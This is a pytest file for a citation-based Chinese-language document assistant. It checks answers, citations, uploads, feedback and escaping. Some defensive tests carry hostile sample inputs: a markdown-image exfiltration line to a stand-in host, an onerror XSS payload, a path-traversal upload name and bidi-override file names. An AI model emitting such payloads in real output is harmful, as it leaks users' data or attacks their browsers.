"""The web page's handlers, without a browser, over the real index."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from types import SimpleNamespace

import pytest

from assistant import Settings, build_assistant
from assistant.web.handlers import WebApp
from tests.conftest import MORE
from tests.formats import make_docx


@pytest.fixture()
def web(index_copy: Path) -> WebApp:
    return WebApp(build_assistant(Settings(data_dir=index_copy)), index_copy)


def last(iterator):
    *_, final = iterator
    return final


def test_an_answer_links_each_marker_to_a_card_with_the_cited_sentence_marked(web: WebApp):
    steps = list(web.respond("尧都区代表每月补助多少？", [], []))
    assert steps[0][0][-1]["content"] == "…"  # the placeholder comes at once
    chat, box, state, cards, heading = steps[-1]
    assert box == "" and heading == "出处 / Sources"
    message = chat[-1]["content"]
    assert '<a class="bitan-cite" href="#src-0-1">[1]</a>' in message
    assert 'class="bitan-answer"' in message
    card = next(c for c in cards if "200元" in c["html"])
    # The answer carries its own cards (the [n] target); the side panel has a copy.
    assert 'class="bitan-sources"' in message and 'id="src-0-1"' in message
    assert 'id="side-0-' in card["html"] and "鲁立波" in card["html"] and "尧都区" in card["html"]
    assert '<mark class="bitan-hl">' in card["html"]
    marked = card["html"].split('<mark class="bitan-hl">')[1].split("</mark>")[0]
    assert "200元" in marked
    (turn,) = state["turns"]
    assert state["id"] and turn["turn"] == 0 and turn["answer_id"]
    assert turn["question"] == turn["rewritten_question"] == "尧都区代表每月补助多少？"
    assert turn["abstained"] is False and "200元" in turn["answer"]
    assert turn["cited"] == [c["chunk"]["id"] for c in turn["data"]["citations"]]


def test_a_follow_up_shows_how_it_was_understood(web: WebApp):
    chat, _, state, _, _ = last(web.respond("郧阳区人大常委会督办了哪个议案？", [], []))
    chat, _, state, cards, _ = last(web.respond("涉及多少件代表意见建议？", chat, state))
    assert len(chat) == 4 and len(state["turns"]) == 2
    assert "bitan-rewritten" in chat[-1]["content"] and "郧阳区" in chat[-1]["content"]
    assert any("122件" in c["html"] for c in cards)
    assert 'id="side-1-1"' in cards[0]["html"]  # the second turn's anchors
    assert 'id="src-1-1"' in chat[-1]["content"] and 'id="src-0-1"' in chat[1]["content"]


def test_a_refusal_is_marked_and_its_passages_are_called_nearest(web: WebApp):
    chat, _, state, cards, heading = last(web.respond("上海市浦东新区有多少常住人口？", [], []))
    assert 'class="bitan-refusal"' in chat[-1]["content"]
    assert "not an answer" in heading
    assert cards and all("bitan-nearest" in c["html"] for c in cards)
    assert state["turns"][0]["abstained"] is True


@pytest.mark.parametrize("question", ["", "   \n\t ", "\x00\x07"])
def test_an_empty_question_gets_a_message_not_a_traceback(web: WebApp, question: str):
    chat, box, state, cards, _ = last(web.respond(question, [], []))
    assert "请输入问题" in chat[-1]["content"] and cards == []
    assert state["turns"][0]["error"] is True


def test_the_article_view_marks_the_passage_in_place(web: WebApp):
    _, _, _, cards, _ = last(web.respond("宁城县如何评价代表履职？", [], []))
    card = cards[0]
    html = web.open_article(card["source"], card["article"], card["chunk_id"])
    assert html.count('id="bitan-article-hl"') == 1
    assert "钱荣新" in html and "<h4>" in html  # the article's sections are in place
    assert html.index("<h3>") < html.index("bitan-article-hl")


def test_feedback_is_appended_with_question_answer_and_cited_ids(web: WebApp):
    _, _, state, _, _ = last(web.respond("尧都区代表每月补助多少？", [], []))
    assert "Thank you" in web.record_feedback(1, True, state, " 很准确 ")
    web.record_feedback([1], False, state, "")
    records = [json.loads(x) for x in (web.data_dir / "feedback.jsonl").read_text().splitlines()]
    assert [r["liked"] for r in records] == [True, False]
    assert [r["vote"] for r in records] == ["like", "dislike"]
    assert records[0]["question"] == "尧都区代表每月补助多少？"
    turn = state["turns"][0]
    assert records[0]["comment"] == "很准确" and records[0]["cited"] == turn["cited"]
    assert records[0]["answer"] == turn["answer"]
    assert {r["conversation_id"] for r in records} == {state["id"]}
    assert {r["answer_id"] for r in records} == {turn["answer_id"]}
    assert [s["author"] for s in records[0]["sources"]][0] == "鲁立波"


def upload(path: Path, name: str | None = None) -> SimpleNamespace:
    """What Gradio hands a handler for an uploaded file: its temp path and original name."""
    return SimpleNamespace(name=str(path), orig_name=name or path.name)


def test_upload_indexes_stores_inside_the_data_dir_and_reports_each_file(
    web: WebApp, tmp_path: Path
):
    (tmp_path / "src").mkdir()
    docx = make_docx(tmp_path / "src" / "manual.docx")
    binary = tmp_path / "src" / "photo.txt"
    binary.write_bytes(bytes(range(256)) * 20)
    fractions = []
    report = web.upload(
        [upload(docx, "../../manual.docx"), upload(binary)], lambda f, d: fractions.append(f)
    )
    lines = report.splitlines()
    assert lines[0].startswith("- manual.docx: **indexed** — ")
    assert lines[1] == (
        "- photo.txt: **rejected** — not a text file in a known encoding (UTF-8, UTF-16, "
        "GB18030/GBK, Big5)"
    )
    assert fractions and fractions[-1] == 1.0
    assert sorted(p.name for p in web.uploads_dir.iterdir()) == [".incoming", "manual.docx"]
    assert not any((web.uploads_dir / ".incoming").iterdir())  # the rejected one is not kept
    assert not (web.uploads_dir / "../../manual.docx").exists()  # where the name pointed
    assert "manual.docx" in web.sources()
    rows = {row[3]: row for row in web.library_rows()}
    assert rows["manual.docx"][0] == "青山县人大常委会代表工作手册"
    answer = web.assistant.ask("新任代表培训几天？")
    assert answer.citations[0].chunk.source == "manual.docx"
    again = web.upload([upload(docx)])
    assert "manual.docx: **unchanged**" in again


def test_delete_and_rebuild_from_the_library(web: WebApp, tmp_path: Path):
    count = web.assistant.index.store.count()
    assert web.rebuild().startswith(f"**rebuilt**: {count} passages")
    assert web.assistant.index.store.count() == count
    assert web.assistant.ask("尧都区代表每月补助多少？").citations[0].chunk.author == "鲁立波"
    assert "removed" in web.delete("zhuren-bitan-000.txt")
    assert web.library_rows() == [] and "not indexed" in web.delete("zhuren-bitan-000.txt")


def test_ask_and_chat_endpoints_handle_bad_questions(web: WebApp):
    assert web.ask_record("  ")["error"].startswith("Please type a question")
    record = web.ask_record("宁城县如何评价代表履职？" * 400)  # 4,800 characters
    assert "cut to its first 2000 characters" in web.assistant.ask("宁" * 3000).notice
    assert record["citations"][0]["author"] == "钱荣新"
    assert "[1]" in web.chat_text("How does Ningcheng evaluate representatives?")


def test_an_llm_answer_streams_into_the_chat(column_index_dir: Path):
    from tests.fake_openai import fake_openai_server

    with fake_openai_server() as (url, server):
        settings = Settings(data_dir=column_index_dir, llm="openai:fake", llm_base_url=url)
        web = WebApp(build_assistant(settings), column_index_dir)
        server.replies = ["据钱荣新，宁城县组织开展代表履职评议[1]。"]
        steps = list(web.respond("宁城县如何评价代表履职？", [], []))
    shown = [chat[-1]["content"] for chat, *_ in steps]
    partial = [s for s in shown[1:-1] if "bitan-answer" not in s]
    assert len(partial) >= 3  # the text grew piece by piece before the final answer
    assert all(s.startswith('<div class="bitan-streaming">') for s in partial)
    texts = [s.removesuffix("</div>") for s in partial]
    assert all(b.startswith(a) for a, b in zip(texts, texts[1:], strict=False))
    assert '<a class="bitan-cite" href="#src-0-1">[1]</a>' in shown[-1]
    assert steps[-1][3][0]["html"].count("钱荣新") >= 1


def test_uploads_a_crashed_server_left_staged_are_cleared_at_start(
    index_copy: Path, monkeypatch: pytest.MonkeyPatch
):
    from assistant.web import prepare

    monkeypatch.setenv("GRADIO_TEMP_DIR", str(index_copy / "tmp"))
    leftover = index_copy / "uploads" / ".incoming" / "3f2a" / "half.txt"
    leftover.parent.mkdir(parents=True)
    leftover.write_text("青山县", encoding="utf-8")
    prepare(Settings(data_dir=index_copy))
    assert not (index_copy / "uploads" / ".incoming").exists()


EXFIL = "据钱荣新，宁城县组织开展代表履职评议[1]。\n\n![x](http://203.0.113.9/exfil?q=secret)"


def test_markdown_images_from_the_model_or_the_question_stay_text(column_index_dir: Path):
    from tests.fake_openai import fake_openai_server

    with fake_openai_server() as (url, server):
        settings = Settings(data_dir=column_index_dir, llm="openai:fake", llm_base_url=url)
        web = WebApp(build_assistant(settings), column_index_dir)
        server.replies = [EXFIL]
        steps = list(web.respond("宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)", [], []))
    for chat, *_ in steps:
        for message in chat:
            assert "![" not in message["content"] and "<img" not in message["content"]
            assert "\n\n" not in message["content"]
    question, answer = steps[-1][0]
    assert question["content"].startswith(
        '<div class="bitan-question">宁城县如何评价代表履职？&#33;'
    )
    assert "&#33;&#91;x&#93;&#40;http&#58;//203.0.113.9/exfil" in answer["content"]
    assert (
        steps[-1][2]["turns"][0]["question"]
        == "宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)"
    )


@pytest.mark.parametrize("question", ["?", "x", "。", "🤔🔥", "1+1=?"])
def test_a_question_without_content_gets_a_notice_in_the_chat(web: WebApp, question: str):
    chat, box, state, cards, _ = last(web.respond(question, [], []))
    assert "请提一个关于资料内容的问题" in chat[-1]["content"] and cards == []
    assert 'class="bitan-notice"' in chat[-1]["content"] and box == question
    assert state["turns"][0]["error"] is True
    assert web.ask_record(question)["error"].startswith("Please ask a question about the")
    assert "not an answer" in web.record_feedback(1, True, state, "")  # nothing to vote on
    assert web.feedback.read() == []


def test_a_dot_file_in_a_batch_is_rejected_on_its_own(web: WebApp, tmp_path: Path):
    good = tmp_path / "score.txt"
    good.write_text("青山县人大常委会建立代表履职积分制度，每季度公开一次积分排名。\n")
    hidden = tmp_path / "hidden.md"
    hidden.write_text("青山县的隐藏文件。\n")
    report = web.upload([upload(hidden, ".md"), upload(good, "evil\u202etxt.score\u2066.txt")])
    assert report.splitlines() == [
        "- .md: **rejected** — a hidden file (its name starts with a dot)",
        "- eviltxt.score.txt: **indexed** — 1 passage",
    ]
    assert "eviltxt.score.txt" in web.sources()


def test_status_messages_show_file_names_as_text(web: WebApp, tmp_path: Path):
    odd = tmp_path / "![f](pic.png) ~x~.txt"
    odd.write_text("青山县人大常委会建立代表履职积分制度。\n")
    report = web.upload([upload(odd)])
    assert report == "- \\!\\[f\\](pic.png) \\~x\\~.txt: **indexed** — 1 passage"
    status = web.delete(odd.name)
    assert status == "\\!\\[f\\](pic.png) \\~x\\~.txt: **removed** (1 passages)"
    assert "<b\\>" in web.delete("<b>.txt")  # not indexed: the message names it, escaped


def test_feedback_comments_are_capped_and_read_back_whole(web: WebApp):
    _, _, state, _, _ = last(web.respond("尧都区代表每月补助多少？", [], []))
    web.record_feedback(1, True, state, "第一行\u2028第二行\u2029" + "长" * 5000)
    (record,) = web.feedback.read()
    assert record["comment"].startswith("第一行\u2028第二行\u2029")
    assert len(record["comment"]) == 2000


@pytest.mark.parametrize("question", [["尧都区代表每月补助多少？"], {"q": "x"}, 42, None])
def test_ask_with_a_question_that_is_not_text_gets_an_error_record(web: WebApp, question):
    record = web.ask_record(question)
    assert set(record) == {"error", "question"}
    assert "must be text" in record["error"] or "type a question" in record["error"]
    assert "must be text" in web.chat_text(question) or "type a question" in web.chat_text(question)


def test_a_cut_question_carries_a_notice_in_its_record(web: WebApp):
    record = web.ask_record("宁城县如何评价代表履职？" * 200)
    assert record["notices"] == [
        "The question was cut to its first 2000 characters. / 问题过长，只取前 2000 个字。"
    ]
    assert "notices" not in web.ask_record("宁城县如何评价代表履职？")


def test_chat_endpoint_escapes_document_html(web: WebApp, tmp_path: Path):
    doc = tmp_path / "raw.md"
    doc.write_text(
        "青山县人大常委会规定代表每年走访选民不少于四次<img src=x onerror=alert(1)>。"
        "![p](http://203.0.113.9/p.png)\n",
        encoding="utf-8",
    )
    web.assistant.ingest([doc])
    text = web.chat_text("青山县代表每年走访选民几次？")
    assert "\\<img src=x onerror=alert(1)\\>" in text and "203.0.113.9" not in text
    assert "<img" not in text.replace("\\<img", "") and "![" not in text


def test_a_law_answer_copies_with_its_article_and_cites_it_formally(web: WebApp):
    web.assistant.ingest([MORE / "jiandufa-2024.md"])
    chat, _, state, cards, _ = last(
        web.respond("各级人民代表大会常务委员会行使监督职权应当坚持什么？", [], None)
    )
    law = "《中华人民共和国各级人民代表大会常务委员会监督法》"
    values = [
        html.unescape(v)
        for v in re.findall(r'bitan-copy-cite" value="([^"]*)"', chat[-1]["content"])
    ]
    assert values and values == [
        html.unescape(re.search(r'bitan-copy-cite" value="([^"]*)"', c["html"]).group(1))
        for c in cards
    ]
    assert any(re.fullmatch(f"{law}第[一二三四五六七八九十百]+条", v) for v in values)
    copied = html.unescape(
        re.search(r'bitan-copy-answer" value="([^"]*)"', chat[-1]["content"]).group(1)
    )
    lines = copied.splitlines()
    sources = lines[lines.index("出处 / Sources:") + 1 :]
    for n, (line, value) in enumerate(zip(sources, values, strict=True), 1):
        if value.startswith(law):  # a law's source line ends in the article it cites
            article = value.removeprefix(law)
            assert line.startswith(f"[{n}] {law} · ") and line.endswith(f" › {article}")
    assert web.restore(state)[0] == chat  # the same bubbles again from the kept conversation
